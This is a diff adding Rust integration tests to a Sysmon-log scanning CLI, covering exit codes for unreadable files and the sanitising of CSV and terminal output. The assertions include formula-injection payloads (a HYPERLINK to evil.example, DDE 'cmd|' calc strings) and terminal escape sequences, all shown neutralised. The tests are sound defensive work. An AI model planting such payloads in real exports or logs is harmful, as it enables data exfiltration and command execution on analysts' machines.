@@ -1,4 +1,5 @@
 use crate::support::case_inputs;
+use std::path::PathBuf;
 use std::process::{Command, Output};
 
 fn run(args: &[&str]) -> Output {
@@ -28,6 +29,163 @@ fn scan(options: &[&str], case: &str) -> Output {
 fn exit_code_is_one_with_findings_and_zero_without() {
     assert_eq!(scan(&[], "d2_hit").status.code(), Some(1));
     assert_eq!(scan(&[], "d2_port_8080_no_hit").status.code(), Some(0));
+}
+
+/// A fresh directory under the system's temp dir, removed when dropped.
+struct TempDir(PathBuf);
+
+impl TempDir {
+    fn new(label: &str) -> Self {
+        let dir = std::env::temp_dir().join(format!("sysmon-lens-cli-{label}-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("temp dir");
+        Self(dir)
+    }
+
+    fn write(&self, name: &str, bytes: &[u8]) -> String {
+        let path = self.0.join(name);
+        std::fs::write(&path, bytes).expect("write temp file");
+        path.to_string_lossy().into_owned()
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+fn case_input(case: &str) -> String {
+    case_inputs(case)[0].to_string_lossy().into_owned()
+}
+
+fn input_bytes(case: &str) -> Vec<u8> {
+    std::fs::read(&case_inputs(case)[0]).expect("case input")
+}
+
+/// Bytes no reader recognizes, as `bad_binary_and_empty/garbage.bin`.
+fn garbage() -> String {
+    cases_file("bad_binary_and_empty", "garbage.bin")
+}
+
+fn cases_file(case: &str, name: &str) -> String {
+    let path = case_inputs(case)
+        .into_iter()
+        .find(|path| path.file_name().is_some_and(|n| n == name))
+        .expect("case file");
+    path.to_string_lossy().into_owned()
+}
+
+#[test]
+fn exit_code_is_two_when_the_only_named_file_is_random_bytes_or_empty() {
+    let output = run(&["scan", &garbage()]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("not read: not a Sysmon log"));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("nothing could be read from"));
+
+    let output = run(&["scan", &cases_file("bad_binary_and_empty", "empty.log")]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("not read: empty file"));
+}
+
+#[test]
+fn exit_code_is_two_when_a_named_file_is_unreadable_even_beside_findings() {
+    let output = run(&["scan", "--format", "json", &garbage(), &case_input("d2_hit")]);
+    assert_eq!(output.status.code(), Some(2));
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("the report is printed");
+    assert_eq!(report["findings"].as_array().expect("findings").len(), 2);
+    assert_eq!(report["files"][0]["format"], "unknown");
+
+    let output = run(&["scan", "/nonexistent/sysmon.log", &case_input("d2_hit")]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("1 as published, 1 hardened"));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("cannot read /nonexistent/sysmon.log"));
+}
+
+#[test]
+fn files_met_in_a_directory_that_are_not_logs_are_listed_not_errors() {
+    let dir = TempDir::new("walk");
+    dir.write("a.log", &input_bytes("d2_hit"));
+    dir.write("notes.bin", &std::fs::read(garbage()).expect("garbage"));
+    dir.write("empty.txt", b"");
+    let output = run(&["scan", &dir.0.to_string_lossy()]);
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains("notes.bin  [unknown, utf-8]"), "{stdout}");
+    assert!(stdout.contains("empty.txt  [unknown, utf-8]"), "{stdout}");
+    assert_eq!(output.status.code(), Some(1), "findings, and no error");
+
+    std::fs::remove_file(dir.0.join("a.log")).expect("remove log");
+    let output = run(&["scan", &dir.0.to_string_lossy()]);
+    assert_eq!(output.status.code(), Some(0), "nothing named failed, nothing found");
+}
+
+#[test]
+fn csv_cells_never_begin_with_a_live_formula_character() {
+    let output = scan(&["--format", "csv"], "export_csv_formula_cells");
+    assert_eq!(output.status.code(), Some(1));
+    let text = String::from_utf8(output.stdout).expect("utf-8");
+    assert!(
+        text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#),
+        "{text}"
+    );
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("valid CSV")).collect();
+    assert_eq!(records.len(), 7, "a header and three rows in each reading");
+    for cell in records.iter().flatten() {
+        let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        assert!(!live || cell.parse::<f64>().is_ok(), "live formula cell {cell:?}");
+    }
+    let column = |name: &str| records[0].iter().position(|c| c == name).expect("column");
+    let (process, user, dest) = (column("process"), column("user"), column("dest"));
+    let rows: Vec<[&str; 3]> = records[1..].iter().map(|r| [&r[process], &r[user], &r[dest]]).collect();
+    for expected in [
+        [
+            r#"'=HYPERLINK("http://evil.example/?"&A1,"open")"#,
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'+WS-01",
+        ],
+        ["'-2+3+cmd|' /C calc'!A0", "'-CORP\\bob", "'=1+1"],
+        ["'\t=cmd|' /C calc'!A0", "'\r=evil", "-5"],
+    ] {
+        assert_eq!(
+            rows.iter().filter(|row| **row == expected).count(),
+            2,
+            "{expected:?} in {rows:?}"
+        );
+    }
+}
+
+#[test]
+fn table_shows_control_characters_as_escapes() {
+    let output = scan(&[], "export_terminal_escapes");
+    assert_eq!(output.status.code(), Some(1));
+    for stream in [&output.stdout, &output.stderr] {
+        for byte in [0x1b, 0x07, 0x0d, 0x7f] {
+            assert!(!stream.contains(&byte), "byte {byte:#04x} printed raw");
+        }
+        let text = String::from_utf8_lossy(stream);
+        assert!(!text.contains(['\u{202e}', '\u{9b}']), "{text}");
+    }
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        stdout.contains(r"cmd.exe /c dir \x1b]0;owned\x07\x1b[2J\rcmd.exe /c echo harmless"),
+        "{stdout}"
+    );
+    assert!(stdout.contains(r"CORP\\u{202e}exe.ecila\u{9b}31m"), "{stdout}");
+    assert!(stdout.contains(r"WS-01\x1b[8m\x7f\nfake line"), "{stdout}");
+    assert!(!stdout.lines().any(|line| line.starts_with("fake line")), "{stdout}");
+}
+
+#[test]
+fn table_shows_control_characters_in_file_names_as_escapes() {
+    let dir = TempDir::new("names");
+    let path = dir.write("evil\u{1b}]0;owned\u{7}.log", &input_bytes("d2_hit"));
+    let output = run(&["scan", &path]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(!output.stdout.contains(&0x1b) && !output.stdout.contains(&0x07));
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains(r"evil\x1b]0;owned\x07.log  [xml-lines"), "{stdout}");
 }
 
 #[test]
